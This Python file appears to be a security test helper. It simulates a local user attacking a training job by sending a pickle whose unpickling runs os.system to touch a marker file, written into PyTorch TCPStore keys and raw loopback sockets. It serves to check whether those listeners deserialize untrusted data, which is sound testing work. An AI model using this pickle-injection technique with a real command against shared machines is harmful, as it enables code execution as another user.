# SPDX-License-Identifier: Apache-2.0
"""Another user of the machine, who tries to run code as the training user through listening sockets."""

import base64
import encodings.idna  # noqa: F401 - of every connection
import os
import pickle
import socket
import traceback
from datetime import timedelta

# other users cannot read root's environments, so everything the stranger needs is imported first
import torch.distributed as dist

NOBODY = 65534


class Payload:
    """An object that writes a file when unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f"touch '{self.marker}'",)


def become_nobody():
    """Give up root's rights."""
    if os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)


def as_nobody(work):
    """Run ``work`` in a fork as another user; returns the process id and a file with the result."""
    read, write = os.pipe()
    pid = os.fork()
    if pid:
        os.close(write)
        return pid, open(read)
    said = "it did not begin"
    try:
        become_nobody()
        said = str(work())
    except BaseException:
        said = traceback.format_exc()
    finally:
        os.write(write, said.encode())
        os._exit(0)


def attack(ports, marker):
    """Write a pickle to every store and socket at these loopback ports; returns the stores' ports."""
    poison = pickle.dumps(Payload(marker))
    reached = []
    for port in ports:
        try:
            wait = timedelta(seconds=0.3)
            store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=wait, wait_for_workers=False)
            # torchrun's state, and all other keys
            store.set("torch.rendezvous.none", base64.b64encode(poison))
            for key in store.list_keys():
                if "rendezvous" not in key:
                    store.set(key, poison)
            reached.append(port)
        except (RuntimeError, ValueError):
            pass
        try:
            with socket.create_connection(("127.0.0.1", port), 2) as connection:
                connection.sendall(poison)
        except OSError:
            pass
    return reached
